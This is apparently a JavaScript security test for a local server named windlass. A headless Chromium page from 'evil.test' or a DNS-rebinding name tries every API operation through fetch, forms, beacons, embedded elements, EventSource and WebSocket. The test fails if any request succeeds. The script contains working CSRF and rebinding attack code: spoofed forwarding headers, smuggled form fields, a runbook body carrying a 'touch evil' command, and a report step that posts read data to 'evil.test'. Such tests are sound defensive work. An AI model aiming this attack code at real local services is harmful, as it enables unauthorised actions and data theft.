// A page of another site against a server on this machine, in a real Chromium.
//
//   page of evil.test ── as another origin ──▶ watcher ──▶ windlass
//   page of rebound.test, then the same name and port are this machine's ──▶ watcher ──▶ windlass
//
// The watcher passes bytes on as they are, and notes what the server answered to each request. A page whose name is bound
// to another address after it was loaded is its own origin, so the browser itself holds nothing back there.
import { spawn } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import http from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";

const [binary, wanted] = [process.argv[2], Number(process.argv[3])];
const CANARY = "canary-2f6c1d";
// What everybody may ask, because it tells nothing about runs.
const OPEN = new Set(["/healthz", "/readyz"]);
const folder = mkdtempSync(join(tmpdir(), "windlass-browser-"));
const children = [];
const fail = (text) => {
    throw new Error(text);
};

function start(program, args, options = {}) {
    const child = spawn(program, args, { stdio: ["ignore", "pipe", "pipe"], ...options });
    child.text = "";
    child.stdout.on("data", (bytes) => (child.text += bytes));
    child.stderr.on("data", (bytes) => (child.text += bytes));
    children.push(child);
    return child;
}

async function until(what, look, patience = 60_000) {
    for (const end = Date.now() + patience; Date.now() < end; ) {
        const found = await look();
        if (found) return found;
        await new Promise((next) => setTimeout(next, 50));
    }
    fail(`waited too long for ${what}`);
}

const listen = (server) => new Promise((done) => server.listen(0, "127.0.0.1", () => done(server.address().port)));

/// A server with something of each kind in it, and what is known about it.
async function serve(name, flags) {
    const data = join(folder, name);
    const child = start(binary, ["serve", "--listen", "127.0.0.1:0", "--data", data, ...flags], { cwd: folder });
    const url = await until("the server", () => /windlass serves (\S+)/.exec(child.text)?.[1]);
    const token = JSON.parse(readFileSync(join(data, "credential.json"), "utf8")).token;
    const ask = async (method, path, body) => {
        const headers = { authorization: `Bearer ${token}`, "content-type": "application/json" };
        const answer = await fetch(url + path, { method, headers, body: body && JSON.stringify(body) });
        return answer.ok ? answer.json() : fail(`${method} ${path}: ${answer.status} ${await answer.text()}`);
    };
    const runbook = readFileSync(new URL("browser.yaml", import.meta.url), "utf8");
    const book = await fetch(`${url}/v1/runbooks`, {
        method: "POST",
        headers: { authorization: `Bearer ${token}`, "content-type": "application/yaml" },
        body: runbook,
    }).then((answer) => answer.json());
    const run = await ask("POST", "/v1/runs", { pipeline: "main", vars: { who: CANARY } });
    await ask("POST", "/v1/queues/work/items", { data: { who: CANARY }, delay_ms: 3_600_000 });
    const approval = await until("an approval", async () => (await ask("GET", "/v1/approvals")).items[0]);
    const operations = [];
    for (const [path, methods] of Object.entries((await ask("GET", "/openapi.json")).paths)) {
        const at = path
            .replace("/approvals/{id}", `/approvals/${approval.id}`)
            .replace("/runs/{id}", `/runs/${run.id}`)
            .replace(/\{hash\}/g, book.hash)
            .replace(/\{run\}/g, run.id)
            .replace(/\{[a-z_]+\}/g, "work");
        for (const method of Object.keys(methods)) operations.push([method.toUpperCase(), at]);
    }
    // What changes by itself, a page did not do.
    const state = async () => {
        const answer = await fetch(`${url}/v1/events?follow=false`, {
            headers: { authorization: `Bearer ${token}`, accept: "application/x-ndjson" },
        });
        const events = (await answer.text()).trim().split("\n").map((line) => JSON.parse(line));
        const own = ["audit:", "store:", "seal:", "system:"];
        return events.map((event) => event.type).filter((type) => !own.some((kind) => type.startsWith(kind)));
    };
    return { url, operations, approval, state, port: Number(new URL(url).port) };
}

/// Passes requests on to a server as they come, serves the page where there is one, and notes every answer.
async function watcher(port, page) {
    const answers = [];
    const server = http.createServer((request, response) => {
        if (request.url === "/page") return response.setHeader("content-type", "text/html").end(page());
        const { method, url: path, rawHeaders } = request;
        const passed = http.request({ host: "127.0.0.1", port, method, path, headers: rawHeaders }, (answer) => {
            answers.push({ method, path, status: answer.statusCode, site: request.headers["sec-fetch-site"] });
            response.writeHead(answer.statusCode, answer.rawHeaders);
            answer.pipe(response);
        });
        passed.on("error", () => response.destroy());
        request.pipe(passed);
    });
    server.on("upgrade", (request, socket) => {
        const headers = request.rawHeaders;
        const passed = http.request({ host: "127.0.0.1", port, path: request.url, headers }, (answer) => {
            answers.push({ method: "upgrade", path: request.url, status: answer.statusCode });
            socket.end(`HTTP/1.1 ${answer.statusCode} no\r\n\r\n`);
        });
        passed.on("upgrade", (answer) => {
            answers.push({ method: "upgrade", path: request.url, status: 101 });
            socket.end();
        });
        passed.on("error", () => socket.destroy());
        passed.end();
    });
    return { answers, port: await listen(server), close: () => server.closeAllConnections() || server.close() };
}

/// Runs in the page: tries every operation in every way that a page has.
async function attack({ base, operations, approval, wanted, report, canary }) {
    let tried = 0;
    const read = [];
    const note = (what, text) => text.includes(canary) && read.push(`${what}: ${text.slice(0, 200)}`);
    const bodies = [
        ["application/json", JSON.stringify({ hash: approval.action_hash, pipeline: "main" })],
        ["text/plain", JSON.stringify({ pipeline: "main", vars: { who: canary } })],
        ["application/x-www-form-urlencoded", "payload=%7B%7D"],
        ["application/yaml", "name: evil\npipelines: { main: { steps: [ { run: 'touch evil' } ] } }"],
    ];
    const progress = (what) => fetch(report.replace("report", `past-${what}-${tried}`), { method: "POST", mode: "no-cors" });
    const ask = async (method, path, mode, [type, body], extra) => {
        tried += 1;
        const headers = { ...extra, ...(method === "GET" ? {} : { "content-type": type }) };
        try {
            const limit = AbortSignal.timeout(5_000);
            const init = { method, mode, headers, credentials: "include", signal: limit };
            const answer = await fetch(base + path, method === "GET" ? init : { ...init, body });
            if (answer.type !== "opaque" && answer.ok) read.push(`${method} ${path} ${mode} is ${answer.status}`);
            note(`${method} ${path}`, await answer.text());
        } catch {
            // Refused by the browser or the server: what should be.
        }
    };
    const element = (tag, attribute, path) =>
        new Promise((done) => {
            tried += 1;
            const made = document.createElement(tag);
            if (tag === "link") made.rel = "stylesheet";
            made[attribute] = base + path;
            const end = () => {
                try {
                    note(`${tag} ${path}`, made.contentDocument?.documentElement?.textContent ?? "");
                } catch {
                    // Another origin's document.
                }
                made.remove();
                done();
            };
            made.onload = made.onerror = end;
            setTimeout(end, 1_000);
            document.body.append(made);
        });
    const form = (path, enctype) =>
        new Promise((done) => {
            tried += 1;
            const frame = Object.assign(document.createElement("iframe"), { name: `f${tried}` });
            const made = Object.assign(document.createElement("form"), { method: "POST", action: base + path, enctype });
            made.target = frame.name;
            const field = Object.assign(document.createElement("input"), { name: '{"pipeline":"main","x":"', value: '"}' });
            made.append(field);
            document.body.append(frame, made);
            const end = () => (frame.remove(), made.remove(), done());
            frame.onload = frame.onerror = end;
            setTimeout(end, 1_000);
            made.submit();
        });
    const stream = (path) =>
        new Promise((done) => {
            tried += 1;
            const source = new EventSource(base + path, { withCredentials: true });
            source.onopen = () => read.push(`EventSource ${path} opened`);
            source.onmessage = (event) => note(`EventSource ${path}`, event.data);
            source.onerror = () => (source.close(), done());
            setTimeout(() => (source.close(), done()), 1_000);
        });
    const socket = (path) =>
        new Promise((done) => {
            tried += 1;
            const made = new WebSocket(base.replace("http", "ws") + path);
            made.onopen = () => read.push(`WebSocket ${path} opened`);
            made.onclose = done;
            setTimeout(done, 1_000);
        });
    try {
        const paths = [...new Set(operations.map(([, path]) => path))];
        const posts = [...new Set(operations.filter(([method]) => method === "POST").map(([, path]) => path))];
        const groups = (all, size) => Array.from({ length: Math.ceil(all.length / size) }, (_, n) => all.slice(n * size, (n + 1) * size));
        const ways = (path) => [
            element("img", "src", path),
            element("script", "src", path),
            element("link", "href", path),
            element("iframe", "src", path),
            stream(path),
            socket(path),
        ];
        for (const group of groups(paths, 12)) await Promise.all(group.flatMap(ways));
        progress("elements");
        for (const group of groups(posts, 12)) {
            const kinds = ["text/plain", "multipart/form-data", "application/x-www-form-urlencoded"];
            await Promise.all(group.flatMap((path) => kinds.map((kind) => form(path, kind))));
            for (const path of group) {
                tried += 1;
                navigator.sendBeacon(base + path, new Blob([bodies[0][1]], { type: "text/plain" }));
            }
        }
        progress("forms");
        for (let round = 0; tried < wanted; round += 1) {
            const body = bodies[round % bodies.length];
            const extra = [{}, { authorization: "Bearer null" }, { "x-forwarded-for": "127.0.0.1" }, { "idempotency-key": "k" }][round % 4];
            for (const mode of ["cors", "no-cors", "same-origin"]) {
                const rules = (method) => mode !== "no-cors" || ["GET", "POST", "HEAD"].includes(method);
                const some = operations.filter(([method]) => rules(method));
                for (const group of groups(some, 16)) {
                    await Promise.all(group.map(([method, path]) => ask(method, path, mode, body, extra)));
                }
            }
        }
    } catch (error) {
        read.push(`the page broke: ${error}`);
    }
    await fetch(report, { method: "POST", mode: "no-cors", body: JSON.stringify({ tried, read }) });
}

/// One page in one Chromium, to its end.
async function visit(server, origin, each) {
    let told;
    const own = http.createServer((request, response) => {
        if (request.url === "/page") return response.setHeader("content-type", "text/html").end(html());
        if (process.env.SHOW) console.error(new Date().toISOString(), request.url);
        let text = "";
        request.on("data", (bytes) => (text += bytes));
        request.on("end", () => ((told = request.url === "/report" ? JSON.parse(text) : told), response.end()));
    });
    const ownPort = await listen(own);
    const html = () => {
        const base = origin === "other" ? `http://127.0.0.1:${seen.port}` : `http://rebound.test:${seen.port}`;
        const given = { base, operations: server.operations, approval: server.approval, wanted: each, canary: CANARY };
        given.report = `http://evil.test:${ownPort}/report`;
        return `<!doctype html><body><script>(${attack})(${JSON.stringify(given)})</script>`;
    };
    const seen = await watcher(server.port, html);
    const page = origin === "other" ? `http://evil.test:${ownPort}/page` : `http://rebound.test:${seen.port}/page`;
    const before = await server.state();
    const browser = start("chromium", [
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessForNavigations",
        "--host-resolver-rules=MAP *.test 127.0.0.1",
        `--user-data-dir=${join(folder, `chromium-${ownPort}`)}`,
        page,
    ]);
    await until("the page to have tried everything", () => told, 600_000).catch((error) => {
        throw new Error(`${error.message}\n${browser.text.slice(-2_000)}`);
    });
    browser.kill("SIGKILL");
    const after = await server.state();
    const served = seen.answers.filter((one) => one.status < 400 && !OPEN.has(one.path) && one.method !== "OPTIONS");
    seen.close();
    own.closeAllConnections();
    own.close();
    const wrong = [
        ...told.read.filter((text) => ![...OPEN].some((path) => text.includes(` ${path} `))),
        ...served.map((one) => `${one.method} ${one.path} (${one.site}) was answered ${one.status}`),
        ...(after.length === before.length ? [] : [`records were written: ${after.slice(before.length)}`]),
    ];
    if (seen.answers.length * 2 < told.tried) wrong.push(`only ${seen.answers.length} of ${told.tried} requests reached the server`);
    return { tried: told.tried, reached: seen.answers.length, wrong };
}

let status = 0;
try {
    const modes = [
        ["with credentials", []],
        ["trusting this machine", ["--trust-local"]],
    ];
    let all = 0;
    for (const [name, flags] of modes) {
        const server = await serve(name.replaceAll(" ", "-"), flags);
        for (const origin of ["other", "rebound"]) {
            const { tried, reached, wrong } = await visit(server, origin, Math.ceil(wanted / 4));
            all += tried;
            console.log(`a server ${name}, a page of ${origin === "other" ? "another origin" : "a rebound name"}: ${tried} requests, ${reached} reached the server, ${wrong.length} got through`);
            for (const text of wrong.slice(0, 20)) console.log(`  ${text}`);
            if (wrong.length) status = 1;
        }
    }
    console.log(`${all} requests in all`);
} catch (error) {
    console.error(error);
    status = 1;
} finally {
    for (const child of children) child.kill("SIGKILL");
    try {
        rmSync(folder, { recursive: true, force: true, maxRetries: 30, retryDelay: 100 });
    } catch (error) {
        // The browser's own processes may write for longer than that; what was found out holds.
        console.error(`${folder} stays: ${error.message}`);
    }
}
process.exit(status);
